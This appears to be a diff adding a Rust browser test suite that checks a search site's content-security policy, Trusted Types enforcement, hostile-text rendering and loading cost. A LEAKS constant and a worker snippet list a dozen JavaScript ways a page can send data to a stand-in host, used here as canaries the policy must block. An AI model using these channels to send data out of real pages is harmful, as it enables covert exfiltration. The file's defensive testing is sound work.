@@ -1,0 +1,191 @@
+//! Nothing leaves, nothing is injected, and what loading costs, in both browsers.
+
+use std::time::{Duration, Instant};
+
+use crate::kit::site::{Hit, Manner};
+use crate::kit::{Alteration, Kind, Visit, corpus, told};
+
+/// A link with a query, as it would be shared.
+const LINK: &str = "#v1&q=مقاتل";
+
+/// All the ways a page could send something, tried from page and worker by the canaries below.
+const LEAKS: &str = "
+    const away = 'http://elsewhere.invalid/';
+    const swallow = f => { try { f()?.catch?.(() => {}) } catch {} };
+    swallow(() => fetch(away + 'fetch'));
+    swallow(() => navigator.sendBeacon(away + 'beacon', 'x'));
+    swallow(() => { new Image().src = away + 'image' });
+    swallow(() => { const x = new XMLHttpRequest(); x.open('GET', away + 'xhr'); x.send() });
+    swallow(() => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = away + 'style'; document.head.append(l) });
+    swallow(() => { const f = document.createElement('iframe'); f.src = away + 'frame'; document.body.append(f) });
+    swallow(() => new EventSource(away + 'events'));
+    swallow(() => new WebSocket('ws://elsewhere.invalid/socket'));
+    swallow(() => import(away + 'module.js'));
+    swallow(() => new FontFace('x', 'url(' + away + 'font)').load());";
+
+fn a_whole_visit(visit: &Visit) {
+    visit.enter(LINK);
+    visit.choose("#results a.result-link");
+    visit.choose("#boilerplate");
+    visit.choose("#language");
+    visit.choose("#close-reading");
+    visit.search("رسائل");
+    visit.choose("#sort option:nth-child(2)");
+}
+
+fn a_whole_visit_leaves_nothing_behind_elsewhere(kind: Kind) {
+    let visit = Visit::new(kind);
+    a_whole_visit(&visit);
+    visit.was_quiet();
+}
+
+fn a_host_without_headers_is_as_safe(kind: Kind) {
+    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: false, probe: true });
+    a_whole_visit(&visit);
+    visit.was_quiet();
+    visit.run(LEAKS);
+    std::thread::sleep(Duration::from_millis(800));
+    assert_eq!(visit.foreign.wanted(), Vec::<String>::new(), "the policy in the page stops them all");
+    assert!(visit.number("globalThis.seenByProbe.violations.length") >= 5.0, "and they are noticed");
+}
+
+/// Canary of the two above.
+fn without_any_policy_the_leaks_are_counted(kind: Kind) {
+    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: false, probe: true });
+    visit
+        .site
+        .rewrite(|page| page.replacen("http-equiv=\"Content-Security-Policy\"", "name=\"no-policy\"", 1));
+    visit.enter(LINK);
+    visit.run(LEAKS);
+    visit.wait_until("five leaks at the proxy", || visit.foreign.wanted().len() >= 5);
+    assert!(std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| visit.stayed_inside())).is_err());
+}
+
+/// The worker inherits the policy only because it is made from a blob: tried from inside.
+fn the_worker_cannot_reach_elsewhere_either(kind: Kind) {
+    const FROM_A_WORKER: &str = "
+        const done = arguments[0];
+        const code = `fetch('http://elsewhere.invalid/worker').then(() => postMessage('out'), () => postMessage('kept in'));`;
+        const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
+        try {
+            const worker = new Worker(url);
+            worker.onmessage = e => done(e.data);
+            worker.onerror = e => done('error');
+        } catch (e) { done('refused: ' + e.name) }";
+    for headers in [true, false] {
+        let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers, probe: true });
+        visit.enter("");
+        let answer = visit.run_async(FROM_A_WORKER, &serde_json::json!([]));
+        // Either Trusted Types refuse the foreign worker, or it inherits the policy.
+        assert!(answer == "kept in" || answer == "refused: TypeError", "{answer}");
+        assert_eq!(visit.foreign.wanted(), Vec::<String>::new());
+    }
+}
+
+fn markup_cannot_be_injected_into_the_page(kind: Kind) {
+    let visit = Visit::new(kind);
+    visit.enter("");
+    let thrown = "try { document.querySelector('#app').innerHTML = '<b>x</b>'; return 'done' } catch (e) { return e.name }";
+    assert_eq!(visit.run(thrown), "TypeError", "Trusted Types are enforced");
+    assert_eq!(visit.run("try { eval('1'); return 'done' } catch (e) { return 'refused' }"), "refused");
+}
+
+fn hostile_pages_are_shown_letter_by_letter(kind: Kind) {
+    let visit = Visit::to(kind, &corpus::hostile(), Manner::default());
+    for link in ["", "#v1&q=خبيث", "#v1&q=خبيث&boilerplate&ui=en"] {
+        visit.enter(link);
+        assert_eq!(visit.reports().len(), corpus::HOSTILE.len());
+        let shown = visit.said("#results");
+        assert!(shown.contains(corpus::HOSTILE[0]) && shown.contains(corpus::HOSTILE[1]), "{shown}");
+        let n = visit.count("#results a.result-link");
+        for nth in 1..=n {
+            visit.choose(&format!("#results > li:nth-child({nth}) a.result-link"));
+            assert!(visit.said("#reading").contains("مصدر خبيث"));
+        }
+    }
+    assert!(visit.holds("globalThis.pwned === undefined"));
+    assert_eq!(visit.count("#app img, #app script, #app svg[onload], #app a[href^=javascript]"), 0);
+    visit.was_quiet();
+}
+
+/// The longest chain of requests each of which began after the one before had been answered.
+///
+/// Every answer is delayed, so that whatever can run side by side does. An HTTP/1.1 connection
+/// limit can only lengthen the chain.
+fn serial_hops(hits: &[Hit]) -> usize {
+    let mut hits: Vec<&Hit> = hits.iter().collect();
+    hits.sort_by_key(|hit| hit.started);
+    let mut depths: Vec<usize> = Vec::new();
+    for hit in &hits {
+        let before = hits.iter().zip(&depths).filter(|(earlier, _)| earlier.finished <= hit.started);
+        depths.push(1 + before.map(|(_, depth)| *depth).max().unwrap_or(0));
+    }
+    depths.into_iter().max().unwrap_or(0)
+}
+
+#[test]
+fn hops_count_what_waits_for_what() {
+    let start = Instant::now();
+    let hit = |from: u64, to: u64| Hit {
+        path: String::new(),
+        inside: true,
+        query: None,
+        referrer: None,
+        status: 200,
+        bytes: 0,
+        started: start + Duration::from_millis(from),
+        finished: start + Duration::from_millis(to),
+    };
+    assert_eq!(serial_hops(&[]), 0);
+    assert_eq!(serial_hops(&[hit(0, 10), hit(12, 20), hit(13, 40), hit(41, 50), hit(14, 60)]), 3);
+}
+
+fn a_link_is_answered_with_few_requests_and_few_hops(kind: Kind) {
+    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: true, probe: false });
+    visit.site.alter("", Alteration::Delayed(Duration::from_millis(150)));
+    visit.enter(LINK);
+    let hits = visit.site.hits();
+    let log = hits.iter().map(|h| format!("{:?} {}", h.started.duration_since(hits[0].started), h.path));
+    let log = log.collect::<Vec<_>>().join("\n");
+    println!("{kind:?}\n{log}");
+    assert!(hits.iter().all(|hit| hit.status == 200), "{log}");
+    assert!(hits.len() <= 12, "{} requests\n{log}", hits.len());
+    assert!(serial_hops(&hits) <= 4, "{} hops\n{log}", serial_hops(&hits));
+}
+
+fn the_first_paint_needs_few_fonts(kind: Kind) {
+    let visit = Visit::new(kind);
+    visit.enter("");
+    visit.run_async(
+        "const done = arguments[0]; document.fonts.ready.then(() => done(1))",
+        &serde_json::json!([]),
+    );
+    let fonts: Vec<Hit> = visit.site.hits().into_iter().filter(|hit| hit.path.ends_with(".woff2")).collect();
+    let bytes: usize = fonts.iter().map(|font| font.bytes).sum();
+    assert!(bytes > 0 && bytes <= 120_000, "{bytes} bytes of fonts: {fonts:?}");
+}
+
+/// Nothing is fetched again but the page itself: all else is named by its content.
+fn a_second_visit_fetches_only_the_page(kind: Kind) {
+    let visit = Visit::to(kind, &told("SIJILL_SITE"), Manner { headers: true, probe: false });
+    visit.enter(LINK);
+    visit.open("about:blank");
+    visit.site.forget();
+    visit.enter(LINK);
+    let asked: Vec<String> = visit.site.hits().into_iter().map(|hit| hit.path).collect();
+    assert_eq!(asked, ["index.html"]);
+}
+
+mod both {
+    crate::in_both_browsers!(
+        a_whole_visit_leaves_nothing_behind_elsewhere,
+        a_host_without_headers_is_as_safe,
+        without_any_policy_the_leaks_are_counted,
+        the_worker_cannot_reach_elsewhere_either,
+        markup_cannot_be_injected_into_the_page,
+        hostile_pages_are_shown_letter_by_letter,
+        a_link_is_answered_with_few_requests_and_few_hops,
+        the_first_paint_needs_few_fonts,
+        a_second_visit_fetches_only_the_page,
+    );
+}
